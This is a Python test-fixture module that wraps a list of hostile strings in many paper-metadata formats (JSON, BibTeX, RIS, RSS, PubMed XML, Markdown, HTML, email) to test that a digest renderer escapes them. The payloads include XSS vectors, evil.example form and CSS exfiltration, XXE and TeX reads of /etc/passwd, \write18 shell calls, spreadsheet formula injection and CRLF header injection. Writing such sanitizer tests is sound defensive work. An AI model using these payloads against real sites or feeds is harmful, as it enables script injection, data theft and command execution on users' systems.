"""Every hostile text of the catalogue, in every field of every format that has such a field.

`folder_of_digests` writes them as digests that a keeper might have saved: each format's own way of
writing text is kept to (JSON is escaped, XML, Markdown and TeX are), so that what is shown must be
the text, to the letter. What cannot be is said in `Sample`, with its reason, and nowhere else.
"""

from __future__ import annotations

import csv
import email.header
import html
import io
import json
import quopri
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "</title><svg/onload=alert(1)>",
    "Sure\nTemplate: x\nSave_as: ../../evil.html\nStatus: draft",
    "<iframe src=//evil.example></iframe><form action=//evil.example><input name=q></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>*{background:url(//evil.example/x)}</style><link rel=stylesheet href=//evil.example>",
    "[x](javascript:alert(1)) and ![y](//evil.example/y.png)",
    "[x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${x}",
    "</script><script>alert(1)</script><!--",
    "\"'><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus x='",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "$\\text{<script>alert(1)</script>}$ and $\\mbox{</mtext><script>alert(1)</script>}$",
    "cost is $5 and $6, 100% of",
    "a } \\ % @ # { b and c",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "-->]]><!DOCTYPE x>&lt;script&gt;",
    "\u202egnp.exe\u2028<marquee>\u2029",
    "# Heading\n\n* list\n\n> quote\n\n    code",
    "/../../evil %2e%2e%2f CON aux.txt",
    "=cmd|' /C calc'!A0",
    # Of the same kinds as the catalogue's, where it has gaps.
    '[x]: javascript:alert(1) "t"\n\n[x] and [x][x] and [^1]\n\n[^1]: //evil.example',
    "<javascript:alert(1)> <data:text/html,x> <//evil.example/x> <https://evil.example/x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &ltscript&gt &amp;lt;i&amp;gt;",
    "&#106;avascript:alert(1) jav&#x09;ascript:alert(1) java\tscript:alert(1)",
    "{% raw %}{{ x }}{% endraw %}{# c #}<%= 7*7 %>#{7*7}{{constructor}}",
    "---\ntitle: x\nStatus: hidden\n---\n::: warning\n%% comment\n:::",
    "<!-- a --!> b <![CDATA[ c ]]> <?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<svg><style><img src=x onerror=alert(1)></style></svg><svg><a xlink:href=javascript:alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\u2066a\u2069 \u200bzero\u200dwidth\ufeff \u061c\u200f end",
    "@string{x = {y}} @comment{ } \\input{/etc/passwd} \\write18{id}",
    "a\r\nBcc: evil\r\n\r\n<b>",
    '=HYPERLINK("https://evil.example/?x="&A1,"x") @SUM(1) +1 -1',
    "//evil.example/x \\\\evil\\x https:evil.example http:/x",
    "<b>bold</b> <i>in vitro</i> p<q and r>s <pad> x_1 *y* **v** `z` ~~w~~",
    "TY  - JOUR\nER  - \nTI  - evil",
    "__proto__ constructor toString",
    "%0d%0aSet-Cookie: a=b %3Cscript%3E %00",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "'-alert(1)-' `${alert(1)}` \\u003cscript\\u003e \\x3cb\\x3e",
    '<a href="//evil.example" ping=//evil.example target=_blank>x</a><object data=//evil.example>',
    "<link rel=preload href=//evil.example as=script><video poster=//evil.example></video>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><p style=color:red>",
    "<template><script>alert(1)</script></template><xmp><plaintext><textarea>",
    "|a|b|\n|---|---|\n|c|d|",
    "1. one\n2) two\n- [ ] three\n\tcode",
    "[[wiki]] :shortcode: @user #1 !!! note",
)

_SPACES = re.compile(r"\s+")


def arxiv(number: int) -> str:
    return f"2{101 + number // 90_000:03d}.{number % 90_000:05d}"


def _doi(number: int) -> str:
    """Give arXiv's own DOI: papers of one title and other DOIs may be the same one."""
    return f"10.48550/arXiv.{arxiv(number)}"


def line(text: str) -> str:
    """Give a text on one line, without what stands in no text (a byte order mark)."""
    return _SPACES.sub(" ", text.replace("\ufeff", "")).strip()


@dataclass(frozen=True)
class Sample:
    """A digest of one paper, and what its page must show: what was written, on one line."""

    text: str
    title: str
    abstract: str | None
    """Where a feed, a mail or a copy has no such field, ``None``."""
    authors: tuple[str, ...] | None = None
    """Where a name cannot be such a text, as signs in it divide names there, ``None``."""


def sample(name: str, number: int, text: str) -> Sample:
    """Write a text in one format; `number` tells its paper from all others."""
    return FORMATS[name](number, text)


def _whole(text: str, said: str, names: Iterable[str] | None = ()) -> Sample:
    """Give a sample of a format whose fields hold any text."""
    people = tuple(map(line, names)) if names is not None else None
    return Sample(text, line(said), line(said), people)


def _typeset(text: str) -> str:
    """Give what a record's title and abstract say: there '<i>' and '<b>' typeset words."""
    return re.sub(r"<([bi])>(.*?)</\1>", r"\2", text)


def _of_record(text: str, said: str, names: Iterable[str] | None) -> Sample:
    return replace(
        _whole(text, said, names), title=line(_typeset(said)), abstract=line(_typeset(said))
    )


def _undivided(text: str, signs: str = ",") -> bool:
    """Whether a name may hold a text: a comma puts the family's name first in most formats."""
    return not re.search(f"[{re.escape(signs)}]| and |\n", text)


def _record(number: int, text: str) -> dict[str, object]:
    return {
        "id": arxiv(number),
        "title": text,
        "summary": text,
        "ai_summary": text,
        "ai_keywords": [text],
        "authors": [{"name": text}, {"name": f"{text} Two"}],
        "publishedAt": "2024-01-02T00:00:00.000Z",
        "githubRepo": text,
        "projectPage": f"https://example.org/{text}",
        "organization": {"name": text, "fullname": text},
        "upvotes": 3,
    }


def hf_json(number: int, text: str) -> Sample:
    by = {"fullname": text, "name": text}
    items = [{"paper": _record(number, text), "title": text, "submittedBy": by}]
    return _whole(json.dumps(items), text, (text, f"{text} Two"))


def hf_html(number: int, text: str) -> Sample:
    props = json.dumps({"dailyPapers": [{"paper": _record(number, text), "title": text}]})
    page = (
        "<!doctype html><html><body>"
        f'<div data-target="DailyPapers" data-props="{html.escape(props)}"></div></body></html>'
    )
    return _whole(page, text, (text, f"{text} Two"))


def _plain_record(number: int, text: str) -> str:
    paper = {
        "title": text,
        "abstract": text,
        "authors": [{"name": text}, text],
        "arxiv_id": arxiv(number),
        "venue": text,
        "keywords": [text],
        "categories": [text],
        "url": text,
        "comment": text,
        "tldr": text,
        "section": text,
    }
    return json.dumps(paper)


def plain_json(number: int, text: str) -> Sample:
    names = (text, text) if _undivided(text) else None
    return _of_record(f"[{_plain_record(number, text)}]", text, names)


def jsonl(number: int, text: str) -> Sample:
    names = (text, text) if _undivided(text) else None
    return _of_record(f"{_plain_record(number, text)}\n", text, names)


def csl_json(number: int, text: str) -> Sample:
    """Give CSL's JSON, whose titles and abstracts have '<i>' and '<b>' for markup."""
    item = {
        "type": "article",
        "id": text,
        "title": text,
        "abstract": text,
        "author": [{"literal": text}, {"family": text, "given": "Ada"}],
        "container-title": text,
        "keyword": text,
        "note": text,
        "DOI": _doi(number),
        "URL": text,
        "issued": {"date-parts": [[2024, 1, 2]]},
    }
    said = _typeset(text)
    return _whole(json.dumps([item]), said, (said, f"Ada {said}"))


_TEX = {sign: f"\\{sign}" for sign in "{}%$&#_"} | {"\\": "\\textbackslash{}"}


def as_tex(text: str) -> str:
    return "".join(_TEX.get(sign, sign) for sign in line(text))


def bibtex(number: int, text: str) -> Sample:
    said = as_tex(text)
    fields = ("title", "abstract", "journal", "keywords", "note")
    written = "".join(f"  {field} = {{{said}}},\n" for field in fields)
    entry = (
        f"@article{{k{number},\n{written}  author = {{{{{said}}}}},\n  url = {{{line(text)}}},\n"
        if text.count("{") == text.count("}")
        else f"@article{{k{number},\n{written}  author = {{{{{said}}}}},\n"
    )
    # Hyphens are dashes there.
    shown = re.sub("(?<!-)--(?!-)", "\u2013", re.sub("(?<!-)---(?!-)", "\u2014", line(text)))
    entry += f"  eprint = {{{arxiv(number)}}},\n  year = 2024\n}}\n"
    return Sample(entry, _typeset(shown), _typeset(shown), (line(text),))


def ris(number: int, text: str) -> Sample:
    fields = ("TI", "AU", "AB", "JO", "KW", "N1", "UR")
    said = "".join(f"{field}  - {line(text)}\n" for field in fields)
    record = f"TY  - JOUR\n{said}DO  - {_doi(number)}\nPY  - 2024\nER  - \n"
    return _of_record(record, text, (text,) if _undivided(text) else None)


def pubmed(number: int, text: str) -> Sample:
    fields = ("TI  ", "FAU ", "AB  ", "JT  ", "OT  ")
    said = "".join(f"{field}- {line(text)}\n" for field in fields)
    record = f"PMID- {number}\n{said}LID - {_doi(number)} [doi]\nDP  - 2024 Jan 2\n"
    return _of_record(record, text, (text,) if _undivided(text) else None)


def table(number: int, text: str) -> Sample:
    names = ("title", "authors", "abstract", "journal", "keywords", "categories", "notes", "url")
    row = [f"[{_quoted(text)}]" if name == "authors" else text for name in names]
    stream = io.StringIO()
    csv.writer(stream).writerows([(*names, "arxiv"), (*row, arxiv(number))])
    return _of_record(stream.getvalue(), text, (text,) if _undivided(text) else None)


def _quoted(text: str) -> str:
    """Write a text as data frames write lists' texts."""
    return "'" + line(text).replace("\\", "\\\\").replace("'", "\\'") + "'"


def _as_xml(text: str) -> str:
    return html.escape(text).replace("\r", "")


def feed(number: int, text: str) -> Sample:
    said = _as_xml(text)
    entry = (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" '
        f'xmlns:arxiv="http://arxiv.org/schemas/atom"><title>{said}</title>'
        f"<entry><id>http://arxiv.org/abs/{arxiv(number)}v1</id><title>{said}</title>"
        f"<author><name>{said}</name></author><summary>{said}</summary>"
        f"<arxiv:comment>{said}</arxiv:comment><arxiv:journal_ref>{said}</arxiv:journal_ref>"
        f'<category term="{said}"/><link href="{said}"/></entry></feed>'
    )
    return _whole(entry, text, _of_arxiv(text))


def _of_arxiv(text: str) -> tuple[str] | None:
    """Give who is called so: arXiv's names are TeX, whose braces only group."""
    return None if re.search(r"[{}]", text) else (text,)


def rss(number: int, text: str) -> Sample:
    """Give RSS: its descriptions are HTML, its titles text, with '<i>' all the same."""
    said = _as_xml(text)
    feed = (
        '<?xml version="1.0"?><rss xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<title>{said}</title><item><link>https://arxiv.org/abs/{arxiv(number)}</link>"
        f"<title>{said}</title><dc:creator>{said}</dc:creator><dc:creator>Ada B</dc:creator>"
        f"<description>{_as_xml(said)}</description></item></channel></rss>"
    )
    title = re.sub(r"<([bi])>(.*?)</\1>", r"\2", text)
    names = _of_arxiv(text)
    return Sample(feed, line(title), line(text), (line(text), "Ada B") if names else None)


def oai(number: int, text: str) -> Sample:
    said = _as_xml(text)
    record = (
        '<?xml version="1.0"?><OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"><ListRecords>'
        f"<record><header><identifier>oai:arXiv.org:{arxiv(number)}</identifier></header><metadata>"
        f'<arXiv xmlns="http://arxiv.org/OAI/arXiv/"><id>{arxiv(number)}</id>'
        f"<created>2024-01-02</created><authors><author><keyname>{said}</keyname></author></authors>"
        f"<title>{said}</title><categories>{said}</categories><comments>{said}</comments>"
        f"<journal-ref>{said}</journal-ref><abstract>{said}</abstract></arXiv></metadata></record>"
        "</ListRecords></OAI-PMH>"
    )
    return _whole(record, text, _of_arxiv(text))


def pubmed_xml(number: int, text: str) -> Sample:
    said = _as_xml(text)
    record = (
        '<?xml version="1.0"?><PubmedArticleSet><PubmedArticle><MedlineCitation>'
        f"<PMID>{number}</PMID><Article><Journal><Title>{said}</Title></Journal>"
        f"<ArticleTitle>{said}</ArticleTitle>"
        f'<ELocationID EIdType="doi">{_doi(number)}</ELocationID>'
        f"<Abstract><AbstractText>{said}</AbstractText></Abstract><AuthorList>"
        f"<Author><LastName>{said}</LastName></Author></AuthorList></Article>"
        f"<KeywordList><Keyword>{said}</Keyword></KeywordList>"
        "</MedlineCitation></PubmedArticle></PubmedArticleSet>"
    )
    return _whole(record, text, (text,))


def arxiv_mail(number: int, text: str) -> Sample:
    said = as_tex(text)
    fields = ("Title", "Authors", "Categories", "Comments", "Journal-ref")
    written = "".join(f"{field}: {said}\n" for field in fields)
    block = (
        f"\\\\\narXiv:{arxiv(number)}\nDate: Tue, 2 Jan 2024 00:00:00 GMT\n\n{written}\\\\\n"
        f"  {said}\n\\\\ ( https://arxiv.org/abs/{arxiv(number)} ,  1kb)\n{'-' * 78}\n"
    )
    return _whole(block, text, (text,) if _undivided(text, ",;&()") else None)


_ESCAPED = re.compile(r"[\\`*_{}\[\]()#+.!|<>&~-]")


def as_markdown(text: str) -> str:
    """Write a text in a line of Markdown, with every sign escaped that could mean something."""
    return _ESCAPED.sub(r"\\\g<0>", line(text))


def _of_newsletter(text: str) -> str:
    """Wrap a text in words: newsletters decorate the ends of titles, with numbers and dashes."""
    return f"Study {line(text)} shown"


def _letter(number: int, text: str) -> str:
    """Give Markdown: what it shows, and what is hostile itself."""
    said = as_markdown(_of_newsletter(text))
    return (
        f"# Papers\n\n## [{said}](https://arxiv.org/abs/{arxiv(number)})\n\n"
        f"**Authors:** {as_markdown(text)}\n\n**Venue:** {said}\n\n**Abstract:** {said}\n\n"
        f"---\n\n{text}\n"
    )


def _of_letter(written: str, text: str) -> Sample:
    said = _of_newsletter(text)
    names = (line(text),) if _undivided(text, ",;&()*:0123456789") else None
    return Sample(written, said, said, names)


def markdown(number: int, text: str) -> Sample:
    return _of_letter(_letter(number, text), text)


def markdown_table(number: int, text: str) -> Sample:
    said = as_markdown(_of_newsletter(text))
    row = f"|[{said}](https://arxiv.org/abs/{arxiv(number)})|{as_markdown(text)}|{said}|"
    return _of_letter(f"|Title|Authors|Abstract|\n|---|---|---|\n{row}\n", text)


def newsletter(number: int, text: str) -> Sample:
    """Give a page that says a text, and is hostile itself: what follows is not escaped."""
    said = html.escape(_of_newsletter(text))
    page = (
        f"<!doctype html><html><body><h2><a href='https://arxiv.org/abs/{arxiv(number)}'>"
        f"{said}</a></h2><p><b>Authors:</b> {html.escape(line(text))}</p>"
        f"<p><b>Abstract:</b> {said}</p><h2>Else</h2><p>{text}</p>"
    )
    return _of_letter(page, text)


def citation(number: int, text: str) -> Sample:
    names = ("title", "author", "journal_title", "abstract", "keywords", "pdf_url")
    said = "".join(f'<meta name="citation_{n}" content="{html.escape(text)}">' for n in names)
    page = (
        f"<!doctype html><html><head>{said}"
        f'<meta name="citation_arxiv_id" content="{arxiv(number)}"></head><body></body></html>'
    )
    return _whole(page, text, _of_arxiv(text) if _undivided(text) else None)


def alert(number: int, text: str) -> Sample:
    """Give an alert, which has a snippet in place of an abstract, and divides by ' - '."""
    said = html.escape(text)
    page = (
        f'<html><body><h3><a class="gse_alrt_title" href="https://arxiv.org/abs/{arxiv(number)}">'
        f'{said}</a></h3><div>{said} - {said}, 2024</div><div class="gse_alrt_sni">{said}</div>'
        "</body></html>"
    )
    return Sample(page, line(text), None)


def listing(number: int, text: str) -> Sample:
    said = html.escape(text)
    page = (
        '<!doctype html><html><body><dl id="articles"><dt><a href="/abs/'
        f'{arxiv(number)}" title="Abstract">arXiv:{arxiv(number)}</a></dt><dd>'
        f'<div class="list-title mathjax"><span class="descriptor">Title:</span> {said}</div>'
        f'<div class="list-authors"><a href="#">{said}</a></div>'
        f'<div class="list-comments mathjax"><span class="descriptor">Comments:</span> {said}</div>'
        f'<p class="mathjax">{said}</p></dd></dl></body></html>'
    )
    return _whole(page, text, (text,))


def mail(number: int, text: str) -> Sample:
    """Give a mail whose headers and body are encoded as mailers do."""
    subject = email.header.Header(line(text), "utf-8").encode()
    body = quopri.encodestring(_letter(number, text).encode()).decode("ascii")
    written = (
        f"From: {subject} <a@b.example>\nSubject: {subject}\n"
        "Date: Tue, 2 Jan 2024 09:00:00 +0000\nMIME-Version: 1.0\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        f"Content-Type: text/plain; charset=utf-8\n\n{body}"
    )
    return _of_letter(written, text)


def rendering(number: int, text: str) -> Sample:
    said = as_markdown(_of_newsletter(text))
    paper = f"https://huggingface.co/papers/{arxiv(number)}"
    page = (
        "Daily Papers - Hugging Face\n\nGet trending papers in your email inbox once a day!\n\n"
        f"### [{said}]({paper})\n\n{said}\n\n[2 authors]({paper})\n\n\u00b7 Jan 2, 2024\n"
    )
    return Sample(page, _of_newsletter(text), _of_newsletter(text))


def rendered_paper(number: int, text: str) -> Sample:
    said = as_markdown(_of_newsletter(text))
    page = (
        f"arxiv:{arxiv(number)}\n\n# {said}\n\nPublished on Jan 2, 2024\n\nUpvote\n\n"
        f"[34](/login?next=%2Fpapers%2F{arxiv(number)})\n\nAuthors:\n\n{as_markdown(text)}\n,\n\n"
        f"Grace Hopper\n\n## Abstract\n\n{said}\n\n"
        f"[View arXiv page](https://arxiv.org/abs/{arxiv(number)})\n"
    )
    names = (line(text), "Grace Hopper") if _undivided(text) else None
    return Sample(page, _of_newsletter(text), _of_newsletter(text), names)


def copied(number: int, text: str) -> Sample:
    """Give a copy of a page's text, which has no identifier: the title has the number."""
    title = f"{_of_newsletter(text)} {number}"
    words = f"{title} in what is an abstract of more than a few words, as abstracts are. " * 4
    page = f"Get trending papers in your email inbox once a day!\nSubscribe\n{title}\n{words}\n"
    return Sample(page, title, line(words))


FORMATS: dict[str, Callable[[int, str], Sample]] = {
    "hf-json": hf_json,
    "hf-html": hf_html,
    "json": plain_json,
    "jsonl": jsonl,
    "csl-json": csl_json,
    "bibtex": bibtex,
    "ris": ris,
    "tagged": pubmed,
    "csv": table,
    "feed": feed,
    "feed (RSS)": rss,
    "xml": oai,
    "xml (PubMed)": pubmed_xml,
    "arxiv-mail": arxiv_mail,
    "markdown": markdown,
    "markdown (table)": markdown_table,
    "html": newsletter,
    "citation-html": citation,
    "scholar-alert": alert,
    "arxiv-html": listing,
    "mail": mail,
    "hf-rendering": rendering,
    "hf-rendered-paper": rendered_paper,
    "hf-text": copied,
}
"""By the format's name; some have several shapes."""


def numbered() -> Iterable[tuple[str, int, str]]:
    """Give every format with every text, and the number of its paper."""
    for place, name in enumerate(FORMATS):
        for number, text in enumerate(PAYLOADS, place * 1_000 + 1):
            yield name, number, text
